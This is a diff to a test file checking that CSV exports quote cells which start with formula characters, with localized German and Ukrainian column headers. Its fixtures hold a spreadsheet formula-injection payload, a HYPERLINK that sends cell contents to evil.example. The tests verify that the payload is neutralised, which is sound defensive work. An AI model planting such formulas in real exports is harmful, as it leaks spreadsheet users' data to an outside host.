@@ -32,21 +32,24 @@ describe('CSV exports and imports with cells spreadsheets would run or the datab
 
     const organizations = await get(`/api/organizations/export.csv?q=${encodeURIComponent('HYPERLINK')}`);
     expect(organizations.statusCode).toBe(200);
-    expect(csvRows(organizations.body)).toEqual([expect.objectContaining({ name: `'${FORMULA}`, short_name: "'-5", kind: 'ngo' })]);
+    expect(csvRows(organizations.body)).toEqual([expect.objectContaining({ Name: `'${FORMULA}`, Kurzname: "'-5", Art: 'Nichtregierungsorganisation' })]);
 
-    const audit = await get(`/api/workspaces/${workspaceId}/audit.csv?entityType=organization`);
+    const audit = await get(`/api/workspaces/${workspaceId}/audit.csv?entityType=organization&lang=uk`);
     expect(audit.statusCode).toBe(200);
     const [event] = csvRows(audit.body);
-    expect(event).toMatchObject({ action: 'create', label: `'${FORMULA}` });
-    expect(JSON.parse(event!.after!).name).toBe(FORMULA);
+    expect(event).toMatchObject({ Дія: 'Створено', Запис: `'${FORMULA}` });
+    // The changes start with the field's name, so the formula inside them cannot run.
+    expect(event!['Зміни']!.startsWith(`Назва: ${FORMULA}\n`)).toBe(true);
+    expect(event!['Зміни']).toContain('Коротка назва: -5');
+    expect(event!['Зміни']).toContain('Вид: Громадська організація');
   });
 
   it('imports names starting with formula characters as they are, and an exported cell without the quote it got', async () => {
     const exported = (await get(`/api/organizations/export.csv?q=${encodeURIComponent('HYPERLINK')}`)).body;
-    expect(exported).toContain(';"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Klick"")";\'-5;');
+    expect(exported).toContain('\n"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Klick"")";\'-5;Nichtregierungsorganisation;');
     const [row] = csvRows(exported);
     // Seated elsewhere than the exported one, so it is another organization of the same name, not a duplicate.
-    const csv = ['name,kind,short_name,seat', `"${row!.name!.replaceAll('"', '""')}",ngo,${row!.short_name},Leipzig`, '-Verein Minus,ngo,@Kurz,', "'s-Hertogenbosch Vereniging,ngo,,"].join('\n');
+    const csv = ['name,kind,short_name,seat', `"${row!.Name!.replaceAll('"', '""')}",ngo,${row!.Kurzname},Leipzig`, '-Verein Minus,ngo,@Kurz,', "'s-Hertogenbosch Vereniging,ngo,,"].join('\n');
     const report = (await importCsv(`/api/imports/organizations?workspaceId=${workspaceId}`, csv)).json();
     expect(report).toMatchObject({ rows: 3, created: 3, issues: [] });
     expect((await organizationsNamed('HYPERLINK')).sort()).toEqual([FORMULA, FORMULA]);
